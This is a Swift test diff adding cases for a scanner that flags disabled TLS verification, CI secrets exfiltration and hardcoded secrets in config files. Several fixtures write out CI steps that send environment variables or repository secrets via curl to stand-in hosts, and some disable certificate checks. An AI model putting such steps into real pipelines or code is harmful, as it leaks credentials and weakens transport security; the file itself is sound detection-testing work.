@@ -215,6 +215,28 @@ import Testing
     ])
     func batchEightClasses(_ example: Example) { Self.check(example) }
 
+    @Test(arguments: [
+        Example("roles/web/tasks/main.yml", "- uri:\n    url: https://api.example.net\n    validate_certs: no\n", "code.tls-verify-disabled"),
+        Example("kubeconfig.yaml", "clusters:\n- cluster:\n    insecure-skip-tls-verify: true\n", "code.tls-verify-disabled"),
+        Example("app/es.py", "es = Elasticsearch(url, verify_certs=False)\n", "code.tls-verify-disabled"),
+        Example("roles/web/tasks/main.yml", "- uri:\n    url: https://api.example.net\n    validate_certs: \"{{ strict_tls }}\"\n", nil),
+        Example(".circleci/config.yml", "command: |\n  d=$(printenv | base64)\n  curl -d \"$d\" https://paste.example.org\n", "ci.secrets-exfiltration"),
+        Example(".circleci/config.yml", "command: |\n  n=$(printenv | wc -l)\n  curl -d \"count\" https://status.example.org\n", nil),
+        Example(".github/workflows/r.yml", "env:\n  ALL: ${{ toJSON(secrets) }}\nrun: curl -d \"$ALL\" https://hooks.example.org\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/r.yml", "env:\n  HOOK: ${{ secrets.SLACK_WEBHOOK_URL }}\nrun: curl -X POST -d '{\"text\":\"ok\"}' \"$HOOK\"\n", nil),
+        Example(".github/workflows/r.yml", "env:\n  HOOK: ${{ secrets.SLACK_WEBHOOK_URL }}\nrun: curl -X POST \"https://x.example.org/?to=$HOOK\"\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/r.yml", "run: echo \"${{ secrets.DEPLOY_KEY }}\" | curl --data-binary @- \"${{ secrets.HOOK }}\"\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/r.yml", "run: curl --url-query \"k=1\" -A \"${{ secrets.DEPLOY_KEY }}\" \"${{ secrets.HOOK }}\"\n", "ci.secrets-exfiltration"),
+        Example("backup.sh", "export PGPASSWORD=\"${PGPASSWORD:-Jy7nBSe2kJOvKq}\"\n", "secret.env-default"),
+        Example("config.rb", "token = ENV.fetch(\"DEPLOYTOKEN\", \"Kq8Wz3Xr6Tb1Nm4V\")\n", "secret.env-default"),
+        Example("app.ts", "const t = process.env.PAGETOKEN ?? \"Kq8Wz3Xr6Tb1Nm4V\";\n", nil),
+        Example("app.ini", "password = <ask the platform team>\n", nil),
+        Example("app.properties", "jwt.secret=<run openssl rand -hex 32>\n", nil),
+        Example("main.tf", "password = sensitive(random_password.db.result)\n", nil),
+        Example("main.tf", "password = \"Xk9#mP2vLq7Wz4Rt\"\n", "secret.generic-assignment"),
+    ])
+    func batchNineAndTenConfigAndCIClasses(_ example: Example) { Self.check(example) }
+
     @Test func mediumDockerfileFindingsBlockUnderBlockMedium() {
         let change = ReviewCase(
             "add", "Dockerfile", "FROM alpine:3.20\nADD https://example.com/a.tgz /opt/\nUSER app\n", risky: true,
